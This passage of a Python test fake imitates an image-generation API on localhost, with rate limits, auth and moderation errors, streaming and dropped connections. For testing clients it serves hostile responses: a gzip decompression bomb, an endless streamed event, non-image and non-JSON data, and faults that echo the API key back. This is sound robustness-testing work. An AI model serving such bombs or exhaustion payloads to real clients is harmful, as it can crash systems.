    ``image_generation.*`` or ``image_edit.*`` events, set as attributes:
    - ``stream_hold``: a ``threading.Event``; the partials are sent, then the completed
      event waits until it is set (or the fake stops), so a test sees the partials while
      the image is still "being made", however fast the machine.
    - ``stream_hostile``: "not_image" (each partial's bytes are HTML, not an image),
      "huge_event" (one event ``bomb_bytes`` long that never ends), "error_event" (the
      stream reports an error instead of an image) or "not_json" (a partial whose data is
      not JSON); None: honest. Each hostile event is of the endpoint's own family.

    Records and counters: ``requests`` (list of RequestRecord), ``billed_images``,
    ``status_counts`` (Counter of HTTP status, or DROPPED), ``peak_in_flight``, ``in_flight``,
    ``connections`` (TCP connections accepted), ``count()``, ``stats()``, ``reset_counters()``.
    """

    def __init__(
        self,
        *,
        latency: float | Callable[[RequestRecord], float] = 0.0,
        images_per_minute: int | None = None,
        requests_per_minute: int | None = DEFAULT_REQUESTS_PER_MINUTE,
        fail_rate: float = 0.0,
        fail_kinds: Iterable[str] = ("server_error", "drop"),
        seed: int | None = 0,
        slow_seconds: float = 30.0,
        script: Iterable[str] = (),
        script_retry_after: float = 1.0,
        drop_after_billing: bool = False,
        blocked_words: Iterable[str] = ("FORBIDDEN",),
        expected_key: str | None = None,
        models: Iterable[str] | None = ACTIVE_MODELS,
        clock: Callable[[], float] = time.time,
        trickle_seconds: float = 0.2,
        bomb_bytes: int = 1024 * MIB,
        reply_headers: dict[str, str] | None = None,
        image_bytes: bytes | None = None,
        image_size: str | None = None,
        usage_patch: dict[str, Any] | None = None,
        c2pa_sign: Callable[[bytes], bytes] | None = None,
        refuse_transparent: bool = False,
        preview_denied: Iterable[str] = (),
        svg_hostile: str | None = None,
        port: int = 0,
    ) -> None:
        object.__setattr__(self, "_lock", threading.RLock())
        self._stopping = threading.Event()
        self._rng = random.Random(seed)
        self._images = _ImageFactory()
        self._port = port
        self._server: _Server | None = None
        self._thread: threading.Thread | None = None
        self._connections: set[socket.socket] = set()
        self._handler_threads: set[threading.Thread] = set()
        self._window: int | None = None
        self._window_images = 0
        self._window_requests = 0
        self.in_flight = 0
        self.latency = latency
        self.images_per_minute = images_per_minute
        self.requests_per_minute = requests_per_minute
        self.fail_rate = fail_rate
        self.fail_kinds = fail_kinds
        self.seed = seed
        self.slow_seconds = slow_seconds
        self.script = script
        self.script_retry_after = script_retry_after
        self.drop_after_billing = drop_after_billing
        self.blocked_words = blocked_words
        self.expected_key = expected_key
        self.models = models
        self.clock = clock
        self.trickle_seconds = trickle_seconds
        self.bomb_bytes = bomb_bytes
        self.reply_headers = reply_headers
        self.image_bytes = image_bytes
        self.image_size = image_size
        self.usage_patch = usage_patch
        self.c2pa_sign = c2pa_sign
        self.refuse_transparent = refuse_transparent
        self.preview_denied = preview_denied
        self.svg_hostile = svg_hostile
        self.stream_hold: threading.Event | None = None
        self.stream_hostile: str | None = None
        from fakebatch import FakeBatchAPI  # the Files and Batches endpoints

        self.batch = FakeBatchAPI(self)
        from fakejudge import FakeJudgeAPI  # the Responses endpoint (a vision judge)

        self.judge = FakeJudgeAPI(self)
        self.reset_counters()

    def __setattr__(self, name: str, value: Any) -> None:
        if name in CONFIG_KEYS:
            value = _normalize(name, value)
            with self._lock:
                object.__setattr__(self, name, value)
                if name == "seed":
                    self._rng = random.Random(value)
            return
        object.__setattr__(self, name, value)

    def configure(self, **config: Any) -> None:
        """Set several config attributes at once (atomically with respect to requests)."""
        unknown = sorted(set(config) - CONFIG_KEYS)
        if unknown:
            raise ValueError(f"unknown config attributes {unknown}")
        with self._lock:
            for name, value in config.items():
                setattr(self, name, value)

    def reset_counters(self) -> None:
        """Forget all records and counters (config is kept)."""
        with self._lock:
            self.requests: list[RequestRecord] = []
            self.billed_images = 0
            self.status_counts: Counter[int | str] = Counter()
            self.peak_in_flight = self.in_flight
            self.connections = 0

    # lifecycle ---------------------------------------------------------------------------

    @property
    def port(self) -> int:
        if self._server is None:
            raise RuntimeError("FakeImagesAPI is not running")
        return int(self._server.server_address[1])

    @property
    def base_url(self) -> str:
        return f"http://{HOST}:{self.port}/v1"

    def start(self) -> FakeImagesAPI:
        """Bind 127.0.0.1 (a free port unless one was given) and serve in a daemon thread."""
        if self._server is not None:
            raise RuntimeError("FakeImagesAPI is already running")
        self._stopping.clear()
        self._server = _Server(self, self._port)
        self._thread = threading.Thread(
            target=self._server.serve_forever,
            kwargs={"poll_interval": 0.01},
            name=f"fakeapi-{self.port}",
            daemon=True,
        )
        self._thread.start()
        return self

    def stop(self, timeout: float = 5.0) -> None:
        """Stop serving, wake sleeping handlers, close every connection and the socket."""
        server, thread = self._server, self._thread
        if server is None or thread is None:
            return
        self._stopping.set()
        self.batch.release.set()  # a request held for a kill test must not hold the stop
        server.shutdown()
        thread.join(timeout)
        with self._lock:
            connections = list(self._connections)
            handlers = list(self._handler_threads)
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
        for handler in handlers:
            handler.join(timeout)
        server.server_close()
        self._server = self._thread = None

    def __enter__(self) -> FakeImagesAPI:
        return self.start()

    def __exit__(self, *exc_info: object) -> None:
        self.stop()

    def _register(self, connection: socket.socket) -> None:
        if self._stopping.is_set():
            with contextlib.suppress(OSError):
                connection.shutdown(socket.SHUT_RDWR)
        with self._lock:
            self._connections.add(connection)
            self._handler_threads.add(threading.current_thread())
            self.connections += 1

    def _unregister(self, connection: socket.socket) -> None:
        with self._lock:
            self._connections.discard(connection)
            self._handler_threads.discard(threading.current_thread())

    # queries -------------------------------------------------------------------------------

    def count(self, endpoint: str | None = None, status: int | str | None = None) -> int:
        """How many recorded Images requests match the endpoint and/or final status."""
        with self._lock:
            return sum(
                1
                for record in self.requests
                if (endpoint is None or record.endpoint == endpoint)
                and (status is None or record.status == status)
            )

    def stats(self) -> dict[str, Any]:
        """The counters served at GET /_stats."""
        with self._lock:
            return {
                "requests": len(self.requests),
                "billed_images": self.billed_images,
                "status_counts": {
                    str(k): v
                    for k, v in sorted(self.status_counts.items(), key=lambda kv: str(kv[0]))
                },
                "by_endpoint": dict(Counter(r.endpoint for r in self.requests)),
                "peak_in_flight": self.peak_in_flight,
                "in_flight": self.in_flight,
                "connections": self.connections,
            }

    def config(self) -> dict[str, Any]:
        """The JSON-representable config (returned by POST /_config)."""
        with self._lock:
            out: dict[str, Any] = {}
            for name in sorted(JSON_CONFIG_KEYS):
                value = getattr(self, name)
                if isinstance(value, deque | tuple | frozenset):
                    value = sorted(value) if isinstance(value, frozenset) else list(value)
                elif isinstance(value, dict):
                    value = dict(value)
                out[name] = "<callable>" if callable(value) else value
            return out

    # HTTP ----------------------------------------------------------------------------------

    def _dispatch(self, handler: _Handler) -> None:
        path = urlsplit(handler.path).path.rstrip("/")
        body = _read_body(handler)
        endpoint = {
            "/v1/images/generations": "generations",
            "/v1/images/edits": "edits",
        }.get(path)
        azure = AZURE_PATH.match(path)
        if azure is not None:
            # Azure OpenAI: /openai/deployments/<deployment>/images/... with an `api-key`
            # header and an `api-version` query; served like the OpenAI endpoints.
            endpoint = azure["endpoint"]
        if handler.command == "POST" and endpoint is not None:
            self._serve_images(handler, endpoint, body)
        elif handler.command == "GET" and path == "/_stats":
            self._send(handler, _Reply(200, self.stats(), {}))
        elif handler.command == "POST" and path == "/_config":
            self._send(handler, self._apply_config(body))
        elif self.batch.serve(handler, path, body) or self.judge.serve(handler, path, body):
            return
        else:
            error = ApiError(404, f"Invalid URL ({handler.command} {handler.path})")
            self._send(handler, _Reply(404, {"error": error.body}, {}))

    def _apply_config(self, body: bytes) -> _Reply:
        try:
            config = json.loads(body or b"{}")
            if not isinstance(config, dict):
                raise TypeError("expected a JSON object")
            unknown = sorted(set(config) - JSON_CONFIG_KEYS)
            if unknown:
                raise ValueError(f"unknown config keys {unknown}")
            self.configure(**config)
        except (TypeError, ValueError) as exc:
            error = ApiError(400, f"Invalid config: {exc}", code="invalid_value")
            return _Reply(400, {"error": error.body}, {})
        return _Reply(200, self.config(), {})

    def _send(self, handler: _Handler, reply: _Reply | _Drop) -> None:
        if isinstance(reply, _Drop):
            handler.close_connection = True
            return
        if reply.delivery == "sse":
            self._send_events(handler, reply)
            return
        payload = json.dumps(reply.body, separators=(",", ":")).encode("utf-8")
        if reply.delivery is not None:
            handler.close_connection = True  # the client hangs up midway, or should
        if reply.delivery == "gzip_bomb":
            with self._lock:
                size = self.bomb_bytes
            payload = gzip_zeros(size)
        handler.send_response(reply.status)
        handler.send_header("Content-Type", "application/json")
        handler.send_header("Content-Length", str(len(payload)))
        if reply.delivery == "gzip_bomb":
            handler.send_header("Content-Encoding", "gzip")
        handler.send_header("Connection", "close" if handler.close_connection else "keep-alive")
        for name, value in reply.headers.items():
            handler.send_header(name, value)
        handler.end_headers()
        if reply.delivery == "trickle":
            self._trickle(handler, payload)
        elif reply.delivery == "gzip_bomb":
            with contextlib.suppress(OSError):  # the client stops reading, as it should
                for start in range(0, len(payload), 64 * 1024):
                    handler.wfile.write(payload[start : start + 64 * 1024])
        else:
            handler.wfile.write(payload)

    def _send_events(self, handler: _Handler, reply: _Reply) -> None:
        """A streamed answer as server-sent events, one flushed event at a time, then the
        connection closes (as the API's streams end)."""
        handler.close_connection = True
        handler.send_response(reply.status)
        handler.send_header("Content-Type", "text/event-stream")
        handler.send_header("Connection", "close")
        for name, value in reply.headers.items():
            handler.send_header(name, value)
        handler.end_headers()
        hold, hostile = self.stream_hold, self.stream_hostile
        events = reply.body["events"]
        family = events[-1]["type"].split(".", 1)[0]  # image_generation or image_edit
        with contextlib.suppress(OSError):
            if hostile == "huge_event":  # never ended: the client must stop reading
                head = f'event: {family}.partial_image\ndata: {{"b64_json":"'
                handler.wfile.write(head.encode())
                for _ in range(0, self.bomb_bytes, 64 * 1024):
                    handler.wfile.write(b"A" * 64 * 1024)
                return
            if hostile == "error_event":  # the image fails while it is being made
                error = {"message": "the image could not be made", "type": "server_error"}
                data = json.dumps({"type": "error", "error": error})
                handler.wfile.write(f"event: error\ndata: {data}\n\n".encode())
                return
            if hostile == "not_json":  # an event whose data no JSON reader accepts
                head = f"event: {family}.partial_image\ndata: <html>busy</html>\n\n"
                handler.wfile.write(head.encode())
                return
            for event in events:
                if event["type"].endswith(".completed") and hold is not None:
                    while not (hold.wait(0.05) or self._stopping.is_set()):
                        pass
                data = json.dumps(event, separators=(",", ":"))
                handler.wfile.write(f"event: {event['type']}\ndata: {data}\n\n".encode())
                handler.wfile.flush()

    def _trickle(self, handler: _Handler, payload: bytes) -> None:
        """Send ``payload`` a byte at a time until it is done, the client hangs up, the fake
        stops, or ``slow_seconds`` have passed (then the connection is closed midway)."""
        with self._lock:
            pause, give_up = self.trickle_seconds, self.slow_seconds
        handler.wfile.flush()
        end = time.monotonic() + give_up
        for index in range(len(payload)):
            if self._stopping.wait(pause) or time.monotonic() > end:
                return
            try:
                handler.wfile.write(payload[index : index + 1])
                handler.wfile.flush()
            except OSError:
                return

    def _serve_images(self, handler: _Handler, endpoint: str, body: bytes) -> None:
        headers = {k.lower(): v for k, v in handler.headers.items()}
        auth = headers.pop("authorization", None)
        azure_key = headers.pop("api-key", None)
        if auth is None and azure_key and AZURE_PATH.match(urlsplit(handler.path).path):
            auth = f"Bearer {azure_key}"
        record = RequestRecord(
            method=handler.command,
            path=handler.path,
            endpoint=endpoint,
            headers=headers,
            auth=auth,
            request_id=f"req_{secrets.token_hex(16)}",
            started=time.monotonic(),
        )
        with self._lock:
            self._roll_window()
            self._window_requests += 1
            self.requests.append(record)
            self.in_flight += 1
            self.peak_in_flight = max(self.peak_in_flight, self.in_flight)
        try:
            reply = self._process(record, body)
        except Exception as exc:  # a bug in the fake still gets an answer, and a traceback
            traceback.print_exc()
            error = ApiError(
                500, f"fakeapi bug: {exc!r}", type_="server_error", code="server_error"
            )
            reply = _Reply(500, {"error": error.body}, {})
        finally:
            with self._lock:
                self.in_flight -= 1
                record.finished = time.monotonic()
                if isinstance(reply, _Drop):
                    record.status = DROPPED
                else:
                    record.status = reply.status
                    record.error_code = (reply.body.get("error") or {}).get("code")
                self.status_counts[record.status] += 1
        if not isinstance(reply, _Drop):
            started = time.monotonic() - record.started
            with self._lock:
                configured = dict(self.reply_headers)
            own = {
                "x-request-id": record.request_id,
                "openai-version": "2020-10-01",
                "openai-organization": "org-fake",
                "openai-processing-ms": str(round(started * 1000)),
            }
            # A reply's own headers (an echoed key, say) win over the standard ones, and
            # the configured ones over both.
            merged = {**own, **reply.headers, **configured}
            reply.headers.clear()
            reply.headers.update(merged)
        self._send(handler, reply)

    def _process(self, record: RequestRecord, body: bytes) -> _Reply | _Drop:
        parse_error = None
        try:
            self._parse(record, body)
        except ApiError as exc:
            parse_error = exc
        try:
            self._authenticate(record.auth)
            if parse_error is not None:
                raise parse_error
            with self._lock:
                scripted = self.script.popleft() if self.script else None
            delivery = scripted if scripted in DELIVERY_FAULTS else None
            if delivery is not None:
                record.fault = delivery
            elif scripted not in {None, "ok"}:
                record.fault = scripted
                return self._fault(record, str(scripted), None)
            with self._lock:
                models, blocked = self.models, self.blocked_words
                refuse = self.refuse_transparent
                denied = self.preview_denied
            if record.fields.get("model") in denied:
                raise self._preview_error(str(record.fields["model"]))
            params = _validate(record.endpoint, record.fields, models, refuse)
            record.n = params.n
            self._check_edit_inputs(record)
            if any(word in params.prompt for word in blocked):
                raise self._moderation_error()
            limits = self._admit(params.n)
            with self._lock:
                fault = None
                if self.fail_rate > 0 and self._rng.random() < self.fail_rate:
                    fault = self._rng.choice(self.fail_kinds) if self.fail_kinds else None
            if fault not in {None, "ok"} and delivery is None:
                record.fault = fault
                return self._fault(record, str(fault), params)
            self._sleep(self._latency_for(record))
            reply = self._success(record, params, limits)
            return replace(reply, delivery=delivery) if delivery else reply
        except ApiError as exc:
            headers = {**self._rate_headers(), **exc.headers}
            return _Reply(exc.status, {"error": exc.body}, headers)

    def _parse(self, record: RequestRecord, body: bytes) -> None:
        content_type = record.headers.get("content-type", "")
        if record.endpoint == "generations":
            try:
                fields = json.loads(body)
            except ValueError as exc:
                raise ApiError(
                    400,
                    "We could not parse the JSON body of your request. (HINT: This likely means "
                    "you aren't using your HTTP library correctly.)",
                ) from exc
            if not isinstance(fields, dict):
                raise ApiError(400, "The JSON body of your request must be an object.")
            record.fields = fields
            return
        if not content_type.lower().startswith("multipart/form-data"):
            raise ApiError(
                400,
                f"Invalid Content-Type header ({content_type}); "
                "expected multipart/form-data for /v1/images/edits.",
            )
        fields, files = _parse_multipart(content_type, body)
        record.fields = fields
        errors: list[ApiError] = []  # record every upload first, then answer the first error
        for name, data in files:
            digest = hashlib.sha256(data).hexdigest()
            if name in {"image", "image[]"}:
                record.image_field = name
                record.image_sha256.append(digest)
            elif name == "mask":
                record.mask_sha256 = digest
            elif name == "markup":
                record.markup_sha256 = digest
                continue
            else:
                errors.append(
                    ApiError(
                        400, f"Unknown parameter: '{name}'.", code="unknown_parameter", param=name
                    )
                )
                continue
            try:
                size = _image_size(data, "mask" if name == "mask" else "image")
            except ApiError as exc:
                errors.append(exc)
                size = (0, 0)
            if name == "mask":
                record.mask_size = size
            else:
                record.image_sizes.append(size)
        if errors:
            raise errors[0]

    def _check_edit_inputs(self, record: RequestRecord) -> None:
        if record.endpoint != "edits":
            return
        if not record.image_sha256:
            raise _invalid("image", "Missing required parameter: 'image'.")
        if len(record.image_sha256) > MAX_EDIT_IMAGES:
            raise _invalid(
                "image", f"Too many images: got {len(record.image_sha256)}, maximum is 16."
            )
        if record.mask_sha256 is not None and record.markup_sha256 is not None:
            raise _invalid("markup", "'markup' cannot be combined with 'mask'.")
        model = str(record.fields.get("model", ""))
        if record.markup_sha256 is not None and not model.startswith(MARKUP_PREFIXES):
            raise _invalid(
                "markup", f"Invalid parameter: 'markup' is not supported for model '{model}'."
            )
        if record.mask_size is not None and record.mask_size != record.image_sizes[0]:
            (mw, mh), (iw, ih) = record.mask_size, record.image_sizes[0]
            raise _invalid(
                "mask",
                f"Invalid mask: mask dimensions {mw}x{mh} must match the first image's "
                f"dimensions {iw}x{ih}.",
            )

    def _authenticate(self, auth: str | None) -> None:
        if not auth or not auth.startswith("Bearer ") or not auth[7:].strip():
            raise ApiError(
                401,
                "You didn't provide an API key. You need to provide your API key in an "
                "Authorization header using Bearer auth (i.e. Authorization: Bearer YOUR_KEY).",
            )
        with self._lock:
            expected = self.expected_key
        key = auth[7:].strip()
        if expected is not None and key != expected:
            raise self._unauthorized(key)

    @staticmethod
    def _unauthorized(key: str) -> ApiError:
        return ApiError(
            401,
            f"Incorrect API key provided: {_mask_key(key)}. You can find your API key at "
            "https://platform.openai.com/account/api-keys.",
            code="invalid_api_key",
        )

    @staticmethod
    def _preview_error(model: str) -> ApiError:
        """The answer to an organisation without access to a model's preview (SVG, GIF):
        a 403 ``PermissionDeniedError`` whose message names the preview, no code."""
        return ApiError(
            403,
            f"Your organization does not have access to the preview for the selected model "
            f"`{model}`. Request access from your organization settings, or choose a "
            "generally available output format.",
        )

    @staticmethod
    def _moderation_error() -> ApiError:
        return ApiError(
            400,
            "Your request was rejected by the safety system. safety_violations=[violence]",
            type_="image_generation_user_error",
            code="moderation_blocked",
            extra={"moderation_details": {"moderation_stage": "input", "categories": ["violence"]}},
        )

    def _fault(self, record: RequestRecord, kind: str, params: _Params | None) -> _Reply | _Drop:
        """Answer with an injected fault; only a drop with drop_after_billing is billed."""
        if kind == "rate_limit":
            with self._lock:
                wait = self.script_retry_after
                ipm = self.images_per_minute or UNLIMITED_IMAGES_PER_MINUTE
            raise ApiError(
                429,
                f"Rate limit exceeded for images per minute in organization org-fake. "
                f"Limit: {ipm}/1min. Current: {ipm + 1}.",
                type_="requests",
                code="rate_limit_exceeded",
                headers={
                    "retry-after": str(max(1, math.ceil(wait))),
                    "retry-after-ms": str(max(1, round(wait * 1000))),
                    "x-ratelimit-remaining-images": "0",
                },
            )
        if kind == "insufficient_quota":
            raise ApiError(
                429,
                "You exceeded your current quota, please check your plan and billing details.",
                type_="insufficient_quota",
                code="insufficient_quota",
            )
        if kind == "unauthorized":
            raise self._unauthorized(record.api_key or "sk-unknown")
        if kind == "echo_key":
            key = record.api_key or ""
            raise ApiError(
                401,
                f"Incorrect API key provided: {key}. Sent as 'Authorization: Bearer {key}'. "
                "You can find your API key at https://platform.openai.com/account/api-keys.",
                code="invalid_api_key",
                headers={
                    "x-request-id": f"req_{key}",
                    "www-authenticate": f'Bearer realm="fake", token="{key}"',
                    "x-echo-authorization": f"Bearer {key}",
                },
            )
        if kind == "echo_key_moderation":
            key = record.api_key or ""
            raise ApiError(
                400,
                "Your request was rejected by the safety system. safety_violations=[violence] "
                f"(request signed with {key})",
                type_="image_generation_user_error",
                code="moderation_blocked",
                extra={
                    "moderation_details": {
                        "moderation_stage": "input",
                        "categories": ["violence"],
                        "caller": key,
                        "headers": [f"Authorization: Bearer {key}"],
                    }
                },
                headers={"x-request-id": f"req_{key}"},
            )
        if kind == "forbidden":
            model = record.fields.get("model")
            model = model if isinstance(model, str) and model else "gpt-image-2.5-flare"
            raise ApiError(
                403,
                f"Your organization must be verified to use the model `{model}`. Please go to: "
                "https://platform.openai.com/settings/organization/general and click on Verify "
                "Organization. If you just verified, it can take up to 15 minutes for access "
                "to propagate.",
            )
        if kind == "moderation":
            raise self._moderation_error()
        if kind == "slow":
            with self._lock:
                stall = self.slow_seconds
            self._sleep(stall)
        else:
            self._sleep(self._latency_for(record))
        if kind == "drop":
            with self._lock:
                if self.drop_after_billing:
                    billed = params.n if params else _requested_n(record.fields)
                    record.billed = billed
                    self.billed_images += billed
            return _DROP
        raise ApiError(
            500,
            "The server had an error while processing your request. Sorry about that!",
            type_="server_error",
            code="server_error",
        )

    def _latency_for(self, record: RequestRecord) -> float:
        with self._lock:
            latency = self.latency
        if not callable(latency):
            return float(latency)
        try:
            return float(latency(record))
        except Exception as exc:
            raise ApiError(
                500,
                f"The fake's latency callable failed: {exc!r}",
                type_="server_error",
                code="server_error",
            ) from exc

    def _sleep(self, seconds: float) -> None:
        if seconds > 0:
            self._stopping.wait(seconds)

    # rate limits ---------------------------------------------------------------------------

    def _roll_window(self) -> float:
        """Move to the current one-second window; return the seconds left in it."""
        now = self.clock()
        window = math.floor(now)
        if window != self._window:
            self._window, self._window_images, self._window_requests = window, 0, 0
        return window + 1 - now

    def _admit(self, n: int) -> dict[str, str]:
        """Admit n images in the current window or raise the 429; return the rate headers."""
        with self._lock:
            left = self._roll_window()
            ipm = self.images_per_minute
            capacity = math.ceil(ipm / 60) if ipm else None
            if capacity is not None and self._window_images + n > capacity:
                current = self._window_images + n
                headers = self._rate_headers()
                headers["x-ratelimit-remaining-images"] = "0"
                headers["retry-after"] = str(max(1, math.ceil(round(left, 6))))
                headers["retry-after-ms"] = str(_ceil_ms(left))
                raise ApiError(
                    429,
                    f"Rate limit exceeded for images per minute in organization org-fake. "
                    f"Limit: {ipm}/1min. Current: {current}.",
                    type_="requests",
                    code="rate_limit_exceeded",
                    headers=headers,
                )
            self._window_images += n
            return self._rate_headers()

    def _rate_headers(self) -> dict[str, str]:
        """x-ratelimit-* headers: per-minute limits; remaining and reset for this window."""
        with self._lock:
            left = self._roll_window()
            ipm = self.images_per_minute or UNLIMITED_IMAGES_PER_MINUTE
            rpm = self.requests_per_minute or DEFAULT_REQUESTS_PER_MINUTE
            reset = _duration(left)
            return {
                "x-ratelimit-limit-requests": str(rpm),
                "x-ratelimit-remaining-requests": str(
                    max(0, math.ceil(rpm / 60) - self._window_requests)
                ),
                "x-ratelimit-reset-requests": reset,
                "x-ratelimit-limit-images": str(ipm),
                "x-ratelimit-remaining-images": str(
                    max(0, math.ceil(ipm / 60) - self._window_images)
                ),
                "x-ratelimit-reset-images": reset,
            }

    # success -------------------------------------------------------------------------------

    def _success(self, record: RequestRecord, params: _Params, limits: dict[str, str]) -> _Reply:
        with self._lock:
            forced, drawn_size, usage_patch = self.image_bytes, self.image_size, self.usage_patch
            c2pa_sign = self.c2pa_sign
        drawn = params
        if drawn_size is not None:
            width, height = (int(v) for v in drawn_size.split("x"))
            drawn = replace(params, width=width, height=height)
        with self._lock:
            hostile = self.svg_hostile
        images = [
            forced if forced is not None else self._draw(drawn, hostile) for _ in range(params.n)
        ]
        if c2pa_sign is not None and forced is None and params.output_format == "png":
            images = [c2pa_sign(image) for image in images]
        for image in images:
            self.judge.remember(image, params.prompt)
        text_tokens = max(1, len(params.prompt) // 4)
        image_tokens = INPUT_IMAGE_TOKENS * len(record.image_sha256)
        per_image = round(
            OUTPUT_TOKENS_PER_MEGAPIXEL[params.quality]
            * params.width
            * params.height
            / (1024 * 1024)
        )
        output_tokens = per_image * params.n
        body = {
            "created": int(time.time()),
            "data": [{"b64_json": base64.b64encode(image).decode("ascii")} for image in images],
            "background": params.background,
            "output_format": params.output_format,
            "quality": params.quality,
            "size": f"{params.width}x{params.height}",
            "usage": {
                "input_tokens": text_tokens + image_tokens,
                "input_tokens_details": {"text_tokens": text_tokens, "image_tokens": image_tokens},
                "output_tokens": output_tokens,
                "total_tokens": text_tokens + image_tokens + output_tokens,
                "output_tokens_details": {"image_tokens": output_tokens, "text_tokens": 0},
            },
        }
        if usage_patch:
            body["usage"].update(usage_patch)
        if str(record.fields.get("stream", "false")).lower() == "true":
            with self._lock:
                record.billed = params.n
                self.billed_images += params.n
            return _Reply(200, self._events(record, params, body, images[0]), limits, "sse")
        if params.output_format == "svg":
            author = record.fields.get("svg")
            model = author.get("model") if isinstance(author, dict) else None
            body["svg_usage"] = {
                "input_tokens": 900 + text_tokens,
                "model": str(model or record.fields.get("svg[model]") or "svg-author-default"),
                "output_tokens": 2400,
                "reasoning_tokens": 1200,
                "total_tokens": 3300 + text_tokens,
            }
        with self._lock:
            record.billed = params.n
            self.billed_images += params.n
        return _Reply(200, body, limits)

    def _events(
        self, record: RequestRecord, params: _Params, body: dict[str, Any], final: bytes
    ) -> dict[str, Any]:
        """A streamed answer (``stream: true``): ``partial_images`` partial frames, each a
        real image of its own (drawn for the prompt plus its index, so no partial equals
        the final), then the completed event with the final image and the usage."""
        count = _integer(record.fields, "partial_images", 0, 0, 3)
        prefix = "image_edit" if record.endpoint == "edits" else "image_generation"
        common = {
            "background": params.background,
            "created_at": body["created"],
            "output_format": params.output_format,
            "quality": params.quality,
            "size": body["size"],
        }
        events = [
            {
                "type": f"{prefix}.partial_image",
                "b64_json": base64.b64encode(
                    b"<html>not an image</html>"
                    if self.stream_hostile == "not_image"
                    else self._images.render(params, f"{params.prompt} (partial {index})")
                ).decode("ascii"),
                "partial_image_index": index,
                **common,
            }
            for index in range(count)
        ]
        completed = {
            "type": f"{prefix}.completed",
            "b64_json": base64.b64encode(final).decode("ascii"),
            "usage": body["usage"],
            **common,
        }
        return {"events": [*events, completed]}

    def _draw(self, params: _Params, hostile: str | None) -> bytes:
        """One image of the requested format: an SVG, a GIF, or a raster."""
        uid = secrets.token_hex(10)
        if params.output_format == "svg":
            return draw_svg(params, uid, hostile)
        if params.output_format == "gif":
            return draw_gif(params, uid)
        return self._images.render(params, params.prompt)


def main(argv: list[str] | None = None) -> int:
    """Serve until SIGTERM/SIGINT; the first stdout line is the base URL."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--latency", type=float, default=0.0)
    parser.add_argument("--ipm", type=int, default=None, help="images per minute (default: none)")
    parser.add_argument("--rpm", type=int, default=DEFAULT_REQUESTS_PER_MINUTE)
    parser.add_argument("--fail-rate", type=float, default=0.0)
    parser.add_argument("--fail-kinds", default="server_error,drop")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--slow-seconds", type=float, default=30.0)
    parser.add_argument("--drop-after-billing", action="store_true")
    parser.add_argument("--expected-key", default=None)
    parser.add_argument("--blocked-words", default="FORBIDDEN")
    args = parser.parse_args(argv)
    api = FakeImagesAPI(
        port=args.port,
        latency=args.latency,
        images_per_minute=args.ipm,
        requests_per_minute=args.rpm,
        fail_rate=args.fail_rate,
        fail_kinds=[k for k in args.fail_kinds.split(",") if k],
        seed=args.seed,
        slow_seconds=args.slow_seconds,
        drop_after_billing=args.drop_after_billing,
        expected_key=args.expected_key,
        blocked_words=[w for w in args.blocked_words.split(",") if w],
    )
    done = threading.Event()
    for signum in (signal.SIGTERM, signal.SIGINT):
        signal.signal(signum, lambda *_: done.set())
    with api:
        sys.stdout.write(f"FAKE_OPENAI_BASE_URL={api.base_url}\n")
        sys.stdout.flush()
        while not done.wait(0.2):
            pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
